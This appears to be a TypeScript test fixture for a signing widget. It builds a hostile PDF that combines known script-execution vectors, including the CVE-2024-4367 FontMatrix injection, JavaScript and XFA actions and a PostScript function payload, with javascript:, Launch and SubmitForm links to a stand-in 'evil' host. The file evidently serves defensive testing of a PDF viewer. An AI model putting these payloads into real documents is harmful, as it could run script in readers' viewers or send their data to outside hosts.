import type { ExchangeAnswer } from '../../../widget/contract/signing.ts';
import { createPage, stream } from '../../support/bare-page.ts';

/** What the frame is told of a document when its bytes are replaced by those on the way. */
export function passOff(pdf: Buffer, answer: ExchangeAnswer): ExchangeAnswer {
  const view = answer.view!;
  const documents = view.documents.map((one) => ({
    ...one,
    byteSize: pdf.length,
    pageSizes: [{ width: 612, height: 792 }],
  }));
  return { ...answer, view: { ...view, documents }, firstSegment: pdf.toString('base64') };
}

/**
 * The known ways by which a PDF has run script or fetched something in pdf.js and in other readers: the font matrix of
 * CVE-2024-4367, scripting and XFA (CVE-2026-16633), PostScript functions, actions and links.
 */
export function hostilePdf(evil: string): Buffer {
  const js = (what: string) =>
    `<< /S /JavaScript /JS (window.pwned = '${what}'; app.alert\\('${what}'\\);) >>`;
  const matrix = "/FontMatrix [1 2 3 4 5 (1\\); window.pwned = 'font'; //)]";
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field><event activity="initialize"><script contentType="application/x-javascript">window.pwned='xfa';app.alert('xfa')</script></event></field></subform></template></xdp:xdp>`;
  const link = (rectangle: string, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [${rectangle}] /Border [0 0 0] /A ${action} >>`;
  const uri = (address: string) => `<< /S /URI /URI (${address}) >>`;
  return createPage('BT /F1 14 Tf 72 700 Td (Terms) Tj ET /Fm0 Do /Sh0 sh', {
    catalog: `/OpenAction ${js('open')} /AA << /WC ${js('close')} >> /Names << /JavaScript << /Names [(a) ${js('names')}] >> >>
      /AcroForm << /XFA 7 0 R /Fields [12 0 R] /NeedAppearances true >>`,
    page: `/AA << /O ${js('page')} >> /Annots [8 0 R 9 0 R 10 0 R 11 0 R 12 0 R]`,
    resources: '/XObject << /Fm0 15 0 R >> /Shading << /Sh0 13 0 R >>',
    objects: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /Evil ${matrix} /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 >> >>`,
      stream(xfa),
      link('0 600 612 792', uri(`${evil}/link`)),
      link('0 400 612 600', uri("javascript:window.pwned='uri'")),
      link('0 200 612 400', `<< /S /Launch /F << /FS /URL /F (${evil}/launch) >> >>`),
      link('0 0 612 200', `<< /S /SubmitForm /F << /FS /URL /F (${evil}/submit) >> >>`),
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [10 10 90 30] /AA << /Fo ${js('focus')} /F ${js('format')} /C ${js('compute')} >> >>`,
      `<< /ShadingType 1 /ColorSpace /DeviceGray /Function 14 0 R >>`,
      stream(
        "{ pop pop 1 (); window.pwned = 'postscript' }",
        '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]',
      ),
      stream(
        'BT /F2 14 Tf 72 600 Td (Terms) Tj ET',
        '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F2 6 0 R >> >>',
      ),
    ],
  });
}
